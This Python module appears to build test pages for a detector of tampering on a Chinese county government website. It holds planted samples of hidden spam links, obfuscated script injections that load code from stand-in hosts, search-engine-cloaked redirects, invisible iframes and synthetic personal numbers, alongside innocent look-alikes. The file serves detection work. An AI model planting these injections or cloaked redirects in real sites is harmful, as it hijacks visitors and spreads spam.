"""The planted set of the safety gate: pages with one planted fault each, and innocent pages that look alike. Numbers of people are made at run time."""

from collections.abc import Iterator
from random import Random
from typing import NamedTuple

import safety_cases_families
import safety_cases_fresh
import safety_cases_hacked
import safety_cases_later
import safety_cases_makes
import safety_cases_topics
from stdnum import luhn

from xunwang_demo.oddities import citizen_number

HOME = "http://www.qingtian.gov.cn/"
_RANDOM = Random(20261121)


class Case(NamedTuple):
    """`kinds`: what must be found, empty for an innocent page; `half` 1 was written before any tuning, 2 after, 3 when both were met, 4 to 10 by others who had not seen how it was built."""

    name: str
    html: str
    kinds: frozenset[str]
    half: int


def page(body: str, *, head: str = "", title: str = "青田县人民政府", tail: str = "", extra: str = "") -> str:
    """A page as content systems make them, with what every page carries."""
    return f"""<!DOCTYPE html><html><head><meta charset="utf-8"><title>{title}</title>
<meta name="SiteName" content="青田县人民政府"><meta name="SiteDomain" content="www.qingtian.gov.cn">{head}</head>
<body><div class="header"><h1>青田县人民政府</h1><div class="nav"><ul><li><a href="/">首页</a></li><li><a href="/zwgk/">政务公开</a>
<ul class="sub" style="display:none"><li><a href="/zwgk/ldzc/">领导之窗</a></li><li><a href="/zwgk/jgzn/">机构职能</a></li></ul></li>
<li><a href="/hdjl/">互动交流</a></li></ul></div></div>
<div class="main">{body}</div>{extra}
<div class="footer"><p>主办：青田县人民政府办公室　联系电话：0990-1234567</p><a href="https://beian.miit.gov.cn/">示ICP备12345678号</a>
<script>document.write(unescape("%3Cspan id='_ideConac' %3E%3C/span%3E%3Cscript src='https://dcs.conac.cn/js/99/1.js' type='text/javascript'%3E%3C/script%3E"));</script>
<script>var _hmt=_hmt||[];(function(){{var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0a";var s=document.getElementsByTagName("script")[0];s.parentNode.insertBefore(hm,s);}})();</script></div>
</body></html>{tail}"""


_NEWS = "<h2>县政府召开常务会议</h2><p>日前，县政府召开常务会议，研究部署防汛抗旱、乡村振兴等重点工作，要求各单位压实责任，抓好落实。</p><p>会议还听取了关于全县道路交通安全工作情况的汇报，审议了有关事项。</p>"
_GAMBLING = ('<a href="http://www.{host}/">{text}</a>',)


def article(text: str, **parts: str) -> str:
    return page(f"{_NEWS}<div class='article'><p>{text}</p></div>", **parts)


# ── hidden ──

_BAD_LINK = '<a href="http://www.ty6688.example/reg">百家乐在线投注</a>'
_TRADE_LINK = '<a href="http://shop.xiezi.example/">特价运动鞋代购</a>'
_WAYS = {
    "display none": '<div style="display:none">{}</div>',
    "display none spaced": '<p STYLE=" DISPLAY : NONE ; color:red">{}</p>',
    "visibility": '<div style="visibility:hidden;height:20px">{}</div>',
    "opacity": '<div style="opacity:0">{}</div>',
    "opacity small": '<div style="opacity:.01;filter:alpha(opacity=1)">{}</div>',
    "font size 0": '<div style="font-size:0">{}</div>',
    "font size 1px": '<span style="font-size:1px;line-height:1px">{}</span>',
    "indent": '<div style="text-indent:-999px">{}</div>',
    "off left": '<div style="position:absolute;left:-2000px;top:-2000px">{}</div>',
    "off left fixed": '<div style="position:fixed;left:-9999px">{}</div>',
    "off by margin": '<div style="margin-left:-5000px">{}</div>',
    "off by transform": '<div style="transform:translateX(-9999px)">{}</div>',
    "scaled away": '<div style="transform:scale(0)">{}</div>',
    "no height": '<div style="height:0;overflow:hidden">{}</div>',
    "one pixel": '<div style="width:1px;height:1px;overflow:hidden;">{}</div>',
    "max height": '<div style="overflow:hidden;max-height:0px">{}</div>',
    "same colour": '<div style="background:#ffffff"><span style="color:#fff">{}</span></div>',
    "same colour near": '<div style="background-color:rgb(250,250,250);color:#fbfbfb">{}</div>',
    "font tag on cell": '<table><tr><td bgcolor="#FFFFFF"><font color="#ffffff">{}</font></td></tr></table>',
    "clip": '<div style="position:absolute;clip:rect(0,0,0,0)">{}</div>',
    "marquee": '<marquee width="1" height="1" scrollamount="3000">{}</marquee>',
    "marquee fast": "<MARQUEE scrollAmount=5000 scrollDelay=1 width=2 height=2>{}</MARQUEE>",
    "written box": "<script>document.write('<div style=\"position:absolute;left:-1000px;\">');</script>{}<script>document.write('</div>');</script>",
    "hidden by id": '<div id="tt1">{}</div><script>document.getElementById("tt1").style.display="none";</script>',
    "noscript": "<noscript>{}</noscript>",
    "hidden attribute": "<div hidden>{}</div>",
    "behind": '<div style="position:absolute;z-index:-100;top:0">{}</div>',
    "class of own sheet": '<div class="zz9">{}</div>',
    "id of own sheet": '<div id="zz8">{}</div>',
    "nested selector": '<div class="qq"><p>{}</p></div>',
}
_SHEET = "<style>.zz9{position:absolute;left:-3000px}#zz8{font-size:0;height:0;overflow:hidden}.qq p{display:none}</style>"
_HARD = {
    "indent", "off left", "off left fixed", "off by margin", "off by transform", "no height", "same colour", "font size 0", "opacity", "marquee", "marquee fast", "written box", "one pixel", "class of own sheet",
}  # fmt: skip
_BLOCK = "".join(
    f'<a href="http://www.{name}.example/">{text}</a> '
    for name, text in (
        ("nvzhuang", "女装批发"),
        ("jiadian", "家电维修"),
        ("lvyou", "旅游攻略"),
        ("meirong", "美容加盟"),
        ("banjia", "搬家公司"),
    )
)


def _hidden() -> Iterator[Case]:
    for number, (name, way) in enumerate(_WAYS.items()):
        html = page(_NEWS + way.format(_BAD_LINK), head=_SHEET)
        yield Case(f"hidden bad link: {name}", html, frozenset({"hidden"}), 1 + number % 2)
    for number, name in enumerate(sorted(_HARD)):
        html = page(_NEWS, head=_SHEET, extra=_WAYS[name].format(_TRADE_LINK))
        yield Case(f"hidden trade link: {name}", html, frozenset({"hidden"}), 1 + number % 2)
    tails = {
        "marquee after the end": f"<marquee width=1 height=3 scrollamount=8000>{_TRADE_LINK}</marquee>",
        "bare links after the end": f"{_TRADE_LINK}<a href='http://www.fapiao.example/'>代开发票</a>",
        "gambling link after the end": _BAD_LINK,
        "text after the end": "线上百家乐 老虎机平台 真人荷官",
    }
    for number, (name, tail) in enumerate(tails.items()):
        yield Case(f"hidden {name}", page(_NEWS, tail=tail), frozenset({"hidden"}), 1 + number % 2)
    yield Case(
        "hidden block of links",
        page(_NEWS, extra=f'<div style="display:none">{_BLOCK}</div>'),
        frozenset({"hidden"}),
        1,
    )
    yield Case(
        "hidden block by own sheet",
        page(
            _NEWS,
            head="<style>.k1{display:none}</style>",
            extra=f'<div class="k1">{_BLOCK}<a href="http://www.caipiao99.example/">彩票平台</a></div>',
        ),
        frozenset({"hidden"}),
        2,
    )
    yield Case(
        "hidden own path",
        page(
            _NEWS,
            extra='<div style="display:none"><a href="/co83js/20260301.html">亚博体育官网登录</a></div>',
        ),
        frozenset({"hidden"}),
        1,
    )
    yield Case(
        "hidden text",
        page(
            _NEWS,
            extra='<div style="position:absolute;left:-4000px">澳门百家乐 真人荷官 老虎机游戏 百家乐平台 在线投注</div>',
        ),
        frozenset({"hidden"}),
        2,
    )
    yield Case(
        "hidden in a link list",
        page(
            _NEWS
            + '<ul class="list"><li><a href="/a/1.html">通知</a></li><li style="text-indent:-2000px"><a href="http://m.qp777.example/">棋牌上下分</a></li></ul>'
        ),
        frozenset({"hidden"}),
        2,
    )


# ── advertising ──


def _spam() -> Iterator[Case]:
    titles = (
        "百家乐平台_真人百家乐_青田县人民政府",
        "【老虎机平台】_官网登录_青田县",
        "bet365中文网址-体育投注平台",
        "成人视频在线观看_青田县人民政府",
        "时时彩计划软件下载|北京赛车pk10开奖直播",
        "传奇私服_新开私服发布网",
    )
    for number, title in enumerate(titles):
        yield Case(f"spam title {number}", page(_NEWS, title=title), frozenset({"spam"}), 1 + number % 2)
    coded = "".join(f"&#{ord(letter)};" for letter in "澳门百家乐官网入口")
    yield Case("spam coded title", page(_NEWS, title=coded), frozenset({"spam"}), 1)
    hexed = "".join(f"&#x{ord(letter):X};" for letter in "六合彩开奖直播")
    yield Case("spam coded title in hexadecimal", page(_NEWS, title=hexed), frozenset({"spam"}), 2)
    metas = '<meta name="keywords" content="亚博体育,开云体育,政务公开,领导之窗"><meta name="description" content="真人荷官,老虎机平台,提供最新网址">'
    yield Case("spam keywords", page(_NEWS, head=metas), frozenset({"spam"}), 1)
    spliced = (
        "会议强调，要切实抓好亚博体育官网登录安全生产，压实属地责任。",
        "日前，我县百家乐平台注册顺利推进项目建设，真人荷官完成投资三亿元。",
        "据悉，体育投注平台app下载该项工作将于下月启动，各镇要提前谋划。",
        "今年以来，全县成人视频免费观看完整版粮食播种面积稳步增长。",
    )
    for number, text in enumerate(spliced):
        yield Case(f"spam spliced {number}", article(text), frozenset({"spam"}), 1 + number % 2)
    links = (
        '<a href="http://www.hg0088-vip.example/">皇冠投注开户</a>',
        '<a href="http://bet365.vip/">点击进入</a>',
        '<a href="http://www.shaonv.example/">成人电影</a>',
        '<a href="http://sf.cq1.example/">新开私服发布</a>',
    )
    for number, link in enumerate(links):
        yield Case(
            f"spam link {number}",
            page(f"{_NEWS}<p>友情链接：{link}</p>"),
            frozenset({"spam"}),
            1 + number % 2,
        )


# ── scripts, frames, redirects ──


def _hexed(text: str) -> str:
    return "".join(f"\\x{ord(letter):02x}" for letter in text)


def _scripts() -> Iterator[Case]:
    away = "http://www.tiao.example:8888/?aff=77"
    codes = ",".join(str(ord(letter)) for letter in "<script src='http://j.xiaos.example/a.js'></script>")
    percent = "".join(
        f"%{ord(letter):02X}" for letter in '<iframe src="http://f.kuang.example/" width=0 height=0></iframe>'
    )
    scripts = {
        "hexadecimal writer": f'window["{_hexed("document")}"]["{_hexed("writeln")}"]("<script src=\'http://js.tj66.example/t.js\'><\\/script>");',
        "hexadecimal whole": f'document.write("{_hexed("<script src=http://js.tj66.example/t.js></script>")}");',
        "char codes": f"document.write(String.fromCharCode({codes}));",
        "unescape": f"document.write(unescape('{percent}'));",
        "eval of char codes": f"eval(String.fromCharCode({','.join(str(ord(one)) for one in 'location.href=' + chr(34) + away + chr(34))}));",
        "by referrer": "var r=document.referrer;if(/\\.(baidu|sogou|so|google|bing)\\./i.test(r)){document.write(\"<iframe src='http://v.huang.example/' width=100% height=900></iframe>\");}",
        "by referrer and location": f'var s=document.referrer;if(s.indexOf("baidu")>0||s.indexOf("google")>0||s.indexOf("sogou")>0)self.location="{away}";',
        "by spider": 'if(!/Baiduspider|Googlebot|360Spider/i.test(navigator.userAgent)){window.location.href="http://www.ying.example/"}',
        "by city": "if(remote_ip_info['city']!='青田'){location.href='http://www.qu.example/in.html'}",
        "gambling text": "document.write('<a href=\"http://www.bjl.example/\">百家乐平台</a>');",
        "appended script": 'var s=document.createElement("script");s.src="http://bet365.top/a.js";document.body.appendChild(s);',
    }
    kinds = {
        "eval of char codes": {"redirect"},
        "by referrer and location": {"redirect"},
        "by spider": {"redirect"},
        "by city": {"redirect"},
    }
    for number, (name, code) in enumerate(scripts.items()):
        wanted = frozenset(kinds.get(name, {"script"}))
        yield Case(f"script {name}", page(_NEWS, extra=f"<script>{code}</script>"), wanted, 1 + number % 2)
    frames = {
        "frame of a pixel": '<iframe src="http://www.mm8.example/x.htm" width="1" height="1" frameborder="0"></iframe>',
        "frame of nothing": "<iframe src=http://g.wangma.example/ width=0 height=0></iframe>",
        "frame off screen": '<iframe src="http://a.gg1.example/" style="position:absolute;left:-5000px"></iframe>',
        "frame with a telling name": '<iframe src="http://www.caipiao365.vip/" width="100%" height="600"></iframe>',
    }
    for number, (name, frame) in enumerate(frames.items()):
        yield Case(f"script {name}", page(_NEWS, extra=frame), frozenset({"script"}), 1 + number % 2)
    yield Case(
        "script after the end",
        page(_NEWS, tail='<script src="http://js.qipai8.top/s.js"></script>'),
        frozenset({"script"}),
        2,
    )
    turns = {
        "refresh": ("head", f'<meta http-equiv="refresh" content="0; url={away}">'),
        "refresh later": ("head", "<META HTTP-EQUIV=Refresh CONTENT='3;URL=http://www.bie.example/'>"),
        "script at once": ("extra", f'<script>location.href="{away}"</script>'),
        "script replace": ("extra", "<script>window.location.replace('http://www.bie.example/a')</script>"),
        "script later": (
            "extra",
            f'<script>setInterval(tz,2000);function tz(){{var url="{away}";location.replace(url);}}</script>',
        ),
        "only mobile": (
            "extra",
            "<script>if(/(iPhone|Android|Mobile)/i.test(navigator.userAgent)){top.location='http://m.haowan.example/'}</script>",
        ),
    }
    for number, (name, (where, code)) in enumerate(turns.items()):
        yield Case(f"redirect {name}", page(_NEWS, **{where: code}), frozenset({"redirect"}), 1 + number % 2)


# ── people and secrets ──


def mobile() -> str:
    return f"13{_RANDOM.randint(0, 9)}{_RANDOM.randint(0, 99_999_999):08d}"


def card() -> str:
    body = f"62{_RANDOM.randint(0, 10**16 - 1):016d}"
    return body + luhn.calc_check_digit(body)


def regional() -> str:
    """A number of a region that exists, with a day of birth that is long past and the sequence number 000, which is never given out."""
    body = "11010118000101000"
    total = sum(int(digit) * (2 ** (17 - place) % 11) for place, digit in enumerate(body))
    return body + "10X98765432"[total % 11]


def _privacy() -> Iterator[Case]:
    people = ["王某某", "李某某", "张某某"]
    rows = "".join(
        f"<tr><td>{number}</td><td>{name}</td><td>{citizen_number(_RANDOM)}</td></tr>"
        for number, name in enumerate(people, 1)
    )
    phones = "".join(
        f"<tr><td>{number}</td><td>{name}</td><td>某某村</td><td>{mobile()}</td></tr>"
        for number, name in enumerate(people, 1)
    )
    number = citizen_number(_RANDOM)
    texts = {
        "id in a sentence": f"公示对象：王某某，身份证号：{citizen_number(_RANDOM)}，现予公示。",
        "id in brackets": f"李某某（身份证号码 {citizen_number(_RANDOM)}）拟录用为工作人员。",
        "id in groups": f"申请人身份证号 {number[:6]} {number[6:14]} {number[14:]}，申请材料齐全。",
        "ids in a table": f"<table><tr><th>序号</th><th>姓名</th><th>身份证号码</th></tr>{rows}</table>",
        "id with x": f"公民身份号码：{_ending_in_x()}，住某某镇。",
        "card": f"补贴资金打入本人银行卡，卡号：{card()}，请核对。",
        "card in fours": f"收款账号 {' '.join(_fours(card()))}（开户行：某某农商行）。",
        "mobiles of a roll": f"低保对象名单<table><tr><th>序号</th><th>姓名</th><th>住址</th><th>手机号</th></tr>{phones}</table>",
        "mobile of an applicant": f"申请人王某某，手机号码：{mobile()}，反映宅基地确权问题。",
        "mobile of a parent": f"学生姓名：李某，家长姓名：李某某，手机{mobile()}。",
        "passport": "参加人员护照号码：E12345678，出生日期略。",
        "plate": "机动车所有人：张某某，号牌号码：示A12345".replace("示", "湘")
        + "，因逾期未检验公告牌证作废。",
        "address": "救助对象王某某，家庭住址：青田县城关镇幸福路18号3单元502室。",
    }
    for order, (name, text) in enumerate(texts.items()):
        yield Case(f"privacy {name}", article(text), frozenset({"privacy"}), 1 + order % 2)


def _fours(text: str) -> list[str]:
    return [text[place : place + 4] for place in range(0, len(text), 4)]


def _ending_in_x() -> str:
    while not (number := citizen_number(_RANDOM)).endswith("X"):
        pass
    return number


def _secrecy() -> Iterator[Case]:
    texts = (
        "机密★5年</p><p>关于报送有关情况的报告",
        "秘密★</p><p>青政〔2026〕3号",
        "绝 密 ★ 长期</p><p>关于某事项的请示",
        "密级：秘密</p><p>会议纪要",
        "内部资料　注意保存</p><p>情况通报第3期",
        "（内部文件，不得外传）</p><p>各镇人民政府",
    )
    for number, text in enumerate(texts):
        yield Case(
            f"secrecy {number}",
            page(f"<div class='article'><p>{text}</p><p>{'现将有关情况报告如下，请审阅。' * 6}</p></div>"),
            frozenset({"secrecy"}),
            1 + number % 2,
        )


def _wording() -> Iterator[Case]:
    texts = (
        "根据《中华人民共和和国土地管理法》的规定，现将有关事项公告如下。",
        "在中国共产觉的坚强领导下，全县各项事业取得新进步。",
        "全国人民代表太会常务委员会副委员长到我县调研。",
        "中国共产党第二十届全国代表大会召开以来，全县上下团结奋斗。",
        "第十四次全国人民代表大会第三次会议审议通过了政府工作报告。",
        "参展企业来自美国、德国、香港、台湾等国家。",
        "近年来中国和台湾的贸易额不断增长。",
        "台湾行政院有关负责人表示关注。",
        "中国人民政治协商委员会青田县第十届委员会第五次会议开幕。",
        "我们要牢固树立构建人类命运共同提的理念。",
    )
    for number, text in enumerate(texts):
        yield Case(
            f"wording {number}",
            article(text * 1 + "会议要求抓好落实。" * 20),
            frozenset({"wording"}),
            1 + number % 2,
        )


# ── innocent ──


def _innocent() -> Iterator[tuple[str, str]]:
    own = '<a href="/zwgk/a.html">政务公开</a><a href="/zwgk/b.html">政策解读</a>'
    friends = "".join(
        f'<li style="display:none"><a href="http://www.{name}.gov.cn/">某某{kind}</a></li>'
        for name, kind in (("aa", "厅"), ("bb", "局"), ("cc", "委"), ("dd", "县"), ("ee", "市"), ("ff", "区"))
    )
    yield (
        "drop-down menu",
        page(_NEWS + f'<ul class="menu"><li>公开<ul style="display:none">{own}</ul></li></ul>'),
    )
    yield (
        "drop-down of partners",
        page(
            _NEWS
            + '<div class="select-box"><ul class="options" style="display:none"><li><a href="http://www.nongshang.example/">农商银行</a></li><li><a href="http://www.gongjiao.example/">公交公司</a></li><li><a href="http://www.aa.gov.cn/">县直部门</a></li></ul></div>'
        ),
    )
    yield (
        "drop-down by hover",
        page(
            _NEWS
            + '<div class="dl1"><span>友情链接</span><p class="box9"><a href="http://www.ribao.example/">某某日报</a><a href="http://www.dianshi.example/">某某电视台</a></p></div>',
            head="<style>.box9{display:none}.dl1:hover .box9{display:block}</style>",
        ),
    )
    yield (
        "tabs",
        page(
            _NEWS
            + f'<div class="tab-con" style="display:none">{own}<a href="http://www.zhaobiao.example/">招标平台</a></div><div class="tab-con" style="display:block">{own}</div>'
        ),
    )
    yield (
        "skip link",
        page('<a class="skip" style="position:absolute;left:-9999px" href="#main">跳到主要内容</a>' + _NEWS),
    )
    yield (
        "sr-only",
        page(
            _NEWS + '<a class="sr-only" href="http://www.wza.example/help" >无障碍浏览说明</a>',
            head="<style>.sr-only{position:absolute;width:1px;height:1px;overflow:hidden;clip:rect(0,0,0,0)}</style>",
        ),
    )
    yield (
        "carousel",
        page(
            _NEWS
            + '<div class="swiper"><div class="slide"><a href="/a/1.html">图一</a></div><div class="slide" style="display:none"><a href="http://www.zhuanti.example/2026/">专题报道</a></div></div>'
        ),
    )
    yield (
        "print only",
        page(
            _NEWS + '<div class="print-only"><a href="http://www.qingtian.gov.cn/p.html">打印版</a></div>',
            head="<style>@media print{.print-only{display:block}} .print-only{display:none}</style>",
        ),
    )
    yield (
        "hidden in print",
        page(
            _NEWS + '<p class="np"><a href="http://www.zhibo.example/">收看直播</a></p>',
            head="<style>@media print{.np{display:none}}</style>",
        ),
    )
    yield (
        "leaving notice",
        page(
            _NEWS
            + '<div id="leave" class="layer" style="display:none">您访问的链接即将离开“青田县人民政府”网站<a href="javascript:;">继续访问</a></div>'
        ),
    )
    yield "site list", page(_NEWS + f"<ul>{friends}</ul>")
    yield "wechat picture", page("<div id='wx_pic' style='display:none'><img src='/logo.jpg'></div>" + _NEWS)
    yield (
        "sso frames",
        page(
            _NEWS
            + '<iframe src="http://sso.shili.gov.cn/a" style="display:none"></iframe><iframe style="display:none"></iframe>'
        ),
    )
    yield (
        "counter frame",
        page(
            _NEWS
            + '<iframe src="http://counter.vendor.example/count.php?id=3" width="0" height="0"></iframe>'
        ),
    )
    yield "share frame", page(_NEWS + '<iframe src="http://api.bshare.cn/s" style="display:none"></iframe>')
    yield (
        "icon link",
        page(
            _NEWS
            + '<a class="weibo" href="http://www.fabu.example/qingtian" style="display:inline-block;width:32px;text-indent:-9999px;background:url(/i.png)">政务发布</a>'
        ),
    )
    yield (
        "mobile header",
        page(
            '<div class="mobile-head" style="display:none"><a href="/">首页</a><a href="http://m.qingtian.gov.cn/">手机版</a></div>'
            + _NEWS
        ),
    )
    yield (
        "elder mode",
        page('<div id="elder" style="display:none"><a href="/old/">长者模式</a></div>' + _NEWS),
    )
    yield (
        "cms mark",
        page(_NEWS + '<p style="display:none">Produced By CMS 网站群内容管理系统 publishdate:2026/01/05</p>'),
    )
    yield "hidden source", page(_NEWS + '<span style="display:none">来源：青田县人民政府办公室</span>')
    yield (
        "white on a dark head",
        page(
            '<div style="background:#0a4a8c"><a style="color:#fff" href="http://www.rongmei.example/">融媒体中心</a></div>'
            + _NEWS
        ),
    )
    yield (
        "white on a picture",
        page(
            '<div style="background:#fff url(/top.jpg)"><a style="color:#ffffff" href="http://www.rongmei.example/">融媒体中心</a></div>'
            + _NEWS
        ),
    )
    yield "same site after the end", page(_NEWS, tail="<!-- 0.0123 s --><script src='/js/end.js'></script>")
    yield "comment after the end", page(_NEWS, tail="\n<!-- page cached by cms 2026-03-01 -->\n")
    yield (
        "counter after the end",
        page(_NEWS, tail='<script src="http://tongji.vendor.example/stat.js?site=3"></script>'),
    )
    yield (
        "nested page",
        page(
            "<html><head></head><body>"
            + _NEWS
            + "</body></html>"
            + "<p><a href='http://www.baoming.example/'>在线报名</a></p>"
        ),
    )
    yield (
        "visible partner",
        page(
            _NEWS
            + '<div class="links"><a href="http://www.qtrb.example/">青田日报</a><a href="http://www.qtyh.example/">青田农商行</a></div>'
        ),
    )
    yield (
        "visible twice",
        page(
            _NEWS
            + '<a href="http://www.zhibo.example/">直播</a><div style="visibility:hidden"><a href="http://www.zhibo.example/old">直播旧址</a></div>'
        ),
    )
    yield (
        "own marquee",
        page(
            '<marquee scrollamount="4" width="600" height="24"><a href="/tz/1.html">关于春节放假的通知</a></marquee>'
            + _NEWS
        ),
    )
    yield (
        "noscript counter",
        page(
            _NEWS
            + '<noscript><img src="https://www.cnzz.com/x.gif"><a href="https://www.cnzz.com/">统计</a></noscript>'
        ),
    )
    yield "noscript advice", page(_NEWS + "<noscript><p>您的浏览器不支持脚本，请升级后访问。</p></noscript>")
    yield (
        "map of Macao",
        page(_NEWS + '<p>粤港澳：<a href="http://www.macautourism.example/">澳门旅游</a></p>'),
    )
    yield (
        "numbers in a host",
        page(
            _NEWS
            + '<a href="http://www.12345hotline.example/">12345热线</a><a href="http://www.qt120.example/">急救中心</a>'
        ),
    )
    words = {
        "sports lottery": "2025年体育彩票、福利彩票公益金使用情况公告。",
        "adult education": "成人教育、成人高考报名工作启动，电竞产业园开园。",
        "asian cup": "亚洲杯足球赛期间交通管制，娱乐场所暂停营业，初始密码请及时修改，默认设置不变。",
        "casino crime": "县公安局侦破一起开设赌场案，犯罪嫌疑人利用百家乐、老虎机等聚众赌博，抓获12人。",
        "online betting warning": "警方提醒：切勿参与网络赌博，“亚博体育”“皇冠体育”等均为非法博彩网站，时时彩、北京赛车计划软件都是骗局。",
        "sex crime": "依法打击制作、传播淫秽色情信息的违法犯罪行为，取缔色情直播平台，查处裸聊敲诈案件。",
        "card game": "社区棋牌室规范管理，严禁赌博。老年活动中心下棋、打牌等文娱活动丰富。",
        "medicine": "市场监管局查处非法销售壮阳药、减肥药案件，没收假冒伟哥若干。",
        "invoice": "税务局提醒：代开发票广告多为诈骗，纳税人可到办税服务厅申请代开增值税发票。",
        "download": "请下载“浙里办”App，登录后进入政务服务平台注册、查询。",
        "website work": "县政府网站优化升级，关键词检索更便捷，友情链接按规定设置。",
        "lottery result": "摇号结果：保障性住房摇号开奖结果公告，请中签家庭登录平台确认。",
        "new era": "习近平文化思想是新时代孕育的重要成果，干部群众深入学习。",
    }
    for name, text in words.items():
        yield f"words {name}", article(text)
    scripts = {
        "mobile version": 'if(/Android|iPhone|Mobile/i.test(navigator.userAgent)){window.location.href="http://m.qingtian.gov.cn/"}',
        "own redirect later": 'setTimeout(function(){location.href="/index.html"},3000)',
        "portal of services": 'function go(){window.location.href="https://www.zjzwfw.gov.cn/"}',
        "statistics with referrer": 'var r=document.referrer;var i=new Image();i.src="/stat?r="+encodeURIComponent(r);',
        "share buttons": 'function share(t){window.open("http://service.weibo.com/share/share.php?url="+location.href)}',
        "weather by address": "document.write(\"<iframe src='https://i.tianqi.com/?c=code' width=200 height=30></iframe>\")",
        "browser test": 'if(navigator.userAgent.indexOf("MSIE")>0){document.write("请使用新版浏览器访问")}',
        "partner by click": 'function toPartner(){window.open("http://www.huoban.example/login")}',
        "system by click": '$("#sys").click(function(){location.href="http://oa.jituan.example:8080/login";})',
        "written partner": "document.write('<a href=\"http://www.zhichi.example/\">技术支持</a>');",
        "leaving prompt": 'function out(u){if(confirm("您将离开本网站")){window.open(u)}}',
        "packed player": "eval(function(p,a,c,k,e,d){return p}('0 1=2',3,3,'var|player|null'.split('|'),0,{}))",
        "footer by script": "document.write(\"<p>主办：青田县人民政府办公室</p><a href='/map.html'>网站地图</a>\")",
        "chars for a mark": "var nbsp=String.fromCharCode(160,32);var s='a'.replace(nbsp,'');",
    }
    for name, code in scripts.items():
        yield f"script {name}", page(_NEWS, extra=f"<script>{code}</script>")
    yield (
        "refresh to own",
        page(
            _NEWS,
            head='<meta http-equiv="refresh" content="300"><meta http-equiv="refresh" content="0;url=/index/index.html">',
        ),
    )
    yield (
        "video frame",
        page(
            _NEWS
            + '<iframe src="https://player.bilibili.com/player.html?aid=1" width="600" height="400"></iframe>'
        ),
    )
    yield (
        "map frame",
        page(_NEWS + '<iframe src="http://map.vendor.example/qingtian" width="100%" height="500"></iframe>'),
    )
    people = {
        "masked id": "王某某，身份证号990101********1234，拟享受补贴。",
        "social credit code": "中标人统一社会信用代码：91000000MA1ABCDE2X，地址：某某路8号。",
        "office phone": f"联系人：李主任，联系电话：{mobile()}；监督电话：0990-7654321。",
        "hot lines": "举报电话12345、12388、12315，传真0990-1112222。",
        "contacts of a notice": f"有意者请与王先生联系，咨询电话 {mobile()}、{mobile()}。",
        "river chiefs": f"河长名单：县级河长 王某某，联系电话{mobile()}；镇级河长 李某某，联系电话{mobile()}；村级河长 张某某 电话{mobile()}。",
        "unit account": f"户名：青田县财政局非税收入专户，开户行：农商行，账号：{card()}。",
        "long numbers": "项目代码2026-330000-04-01-123456，合同编号20260301000123456789，电子监管号3300002026B01234。",
        "wrong checksum": f"编号{110101}{19000101}0009为登记流水号，非证件号码。",
        "plates of a fleet": "公务车辆平台车牌湘A00001等已喷涂标识，接受监督。",
        "address of an office": "办公地址：青田县鹤城镇新大街1号行政中心3号楼，邮编323900。",
        "address of a company": "建设单位住所：青田县工业园区8号厂房。",
        "masked phone": "投诉人王某某，手机138****5678，反映问题已办结。",
    }
    for name, text in people.items():
        yield f"people {name}", article(text)
    secrets = {
        "law on secrets": "县保密局组织学习《中华人民共和国保守国家秘密法》，国家秘密的密级分为绝密、机密、秘密三级。",
        "mark explained": "国家秘密标志的标注形式为“机密★10年”，由密级和保密期限两部分组成，样式见附件。",
        "business secret": "本项目涉及商业秘密，参与人员应当保密。五星★评价结果公布。",
    }
    for name, text in secrets.items():
        yield f"secrets {name}", article(text)
    wordings = {
        "taiwan right": "产品销往日本、韩国、台湾等国家和地区；国务院台湾事务办公室发言人表示，推动两岸关系和平发展。",
        "organs right": "中国人民政治协商会议青田县委员会、县人民代表大会常务委员会、中国共产党青田县委员会。",
        "congress right": "深入学习贯彻党的二十大和二十届三中全会精神，第十四届全国人民代表大会第三次会议胜利闭幕，共青团第十九次全国代表大会。",
        "korea": "朝鲜民主主义人民共和国代表团、蒙古人民共和国旧称、中国共产主义青年团。",
        "history": "1912年中华民国临时政府在南京成立，孙中山就任临时大总统；旧址现为全国重点文物保护单位。",
        "quoted": "坚决反对任何制造“两个中国”、“一中一台”的行径，台湾“立法院”有关言论违背民意。",
    }
    for name, text in wordings.items():
        yield f"wording {name}", article(text + "会议要求抓好落实。" * 20)


# ── added when the set above was met in full ──


def _later() -> Iterator[Case]:
    ways = {
        "by itself": '<a href="http://www.huazhuang.example/" style="position:absolute;top:-999em">化妆品代理</a>',
        "in a scrolling dot": f'<div style="width:3px;height:3px;overflow:auto">{_TRADE_LINK}</div>',
        "as a full stop": '<div style="position:absolute;left:-3000px"><a href="http://www.huazhuang.example/">.</a></div>',
        "by an own id": f'<style>#links{{position:absolute;left:-1200px}}</style><div id="links">{_TRADE_LINK}</div>',
        "in a list of selectors": f'<style>body .wrap,div.xx > span{{text-indent:-999em}}</style><div class="xx"><span>{_TRADE_LINK}</span></div>',
        "relative": f'<div style="position:relative;left:-9999px">{_TRADE_LINK}</div>',
        "by clip-path": f'<div style="clip-path:inset(100%);position:absolute">{_TRADE_LINK}</div>',
        "in a heading": f'<h1 style="display:none">{_BAD_LINK}</h1>',
        "in a table": f'<table style="display:none"><tr><td>{_BAD_LINK}</td></tr></table>',
    }
    for name, html in ways.items():
        yield Case(f"hidden {name}", page(_NEWS, extra=html), frozenset({"hidden"}), 2)
    stop = '<p>会议要求抓好落实<a href="http://www.bocai88.vip/">。</a></p>'
    yield Case("spam link under a full stop", page(_NEWS + stop), frozenset({"spam"}), 2)
    innocent = {
        "off-canvas navigation": '<div class="side-nav" style="position:fixed;left:-300px"><a href="http://www.rongmei.example/">融媒体</a><a href="/zwgk/">公开</a></div>',
        "menu moved back by the pointer": "<style>#gn li ul{position:absolute;left:-999em}#gn li:hover ul{left:auto}</style>"
        '<ul id="gn"><li>服务<ul><li><a href="http://www.shuiwu.example/">水务公司</a></li></ul></li></ul>',
        "separator": '<div style="height:1px;overflow:hidden"></div><p>合作单位：<a href="http://www.shuiwu.example/">水务公司</a></p>',
        "picture link": '<a href="http://www.shuiwu.example/"><img src="/sw.png" alt=""></a>',
    }
    for name, html in innocent.items():
        yield Case(f"innocent {name}", page(_NEWS, extra=html), frozenset(), 2)


def _hacked() -> Iterator[Case]:
    people = safety_cases_fresh.People(citizen_number, luhn.calc_check_digit)
    parts = [
        (part, half)
        for one, half in (
            (safety_cases_hacked, 3),
            (safety_cases_later, 3),
            (safety_cases_topics, 4),
            (safety_cases_families, 6),
            (safety_cases_makes, 8),
        )
        for part in (*one.bad(), *one.innocent())
    ]
    families = (*safety_cases_families.later_bad(), *safety_cases_families.later_innocent())
    parts += [(part, 7) for part in families]
    makes = (*safety_cases_makes.later_bad(), *safety_cases_makes.later_innocent())
    parts += [(part, 9) for part in makes]
